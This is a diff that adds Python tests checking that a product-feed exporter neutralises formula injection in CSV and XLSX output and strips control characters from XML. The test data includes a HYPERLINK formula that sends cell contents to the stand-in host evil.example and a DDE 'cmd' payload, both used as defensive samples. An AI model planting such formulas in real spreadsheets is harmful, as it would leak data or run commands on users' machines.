@@ -241,3 +241,46 @@ def test_xlsx_keeps_numbers_typed_and_reads_back_with_openpyxl(tmp_path: Path) -
     assert rows[1][:5] == ["A-1", "Hex bolt, M6", 1.5, 10, True]
     assert rows[1][5] == '["zinc", "m6"]'
     assert rows[3][1] == "bell character"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading CR",
+]
+
+
+def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "feed.csv"
+    rows = [{"sku": f"F-{i}", "title": text, "price": -1.5} for i, text in enumerate(FORMULAS)]
+    rows.append({"sku": "F-9", "title": "-5", "price": "+3"})  # plain numbers stay numbers
+    _export(path, [rows])
+    with path.open(newline="", encoding="utf-8") as handle:
+        read = list(csv.DictReader(handle))
+    assert [r["title"] for r in read] == ["'" + text for text in FORMULAS] + ["-5"]
+    assert [r["price"] for r in read] == ["-1.5"] * len(FORMULAS) + ["+3"]
+
+
+def test_xlsx_exports_write_formula_looking_text_as_text_cells(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    path = tmp_path / "feed.xlsx"
+    rows = [{"sku": f"F-{i}", "title": text, "price": -1.5} for i, text in enumerate(FORMULAS)]
+    _export(path, [rows])
+    sheet = load_workbook(path).active  # not read-only: cells keep their data type
+    titles = [sheet.cell(row=i + 2, column=2) for i in range(len(FORMULAS))]
+    assert [c.data_type for c in titles] == ["s"] * len(FORMULAS)
+    assert [c.value for c in titles] == ["'" + t for t in FORMULAS]
+    assert sheet.cell(row=2, column=3).value == -1.5
+
+
+def test_xml_exports_drop_control_characters_so_the_file_parses(tmp_path: Path) -> None:
+    import xml.etree.ElementTree as ET
+
+    path = tmp_path / "feed.xml"
+    _export(path, [[{"sku": "C-1", "title": "nul\x00 bell\x07 esc\x1b tab\tkept"}]])
+    [record] = ET.parse(path).getroot().findall("record")
+    assert {f.get("name"): f.text for f in record}["title"] == "nul bell esc tab\tkept"
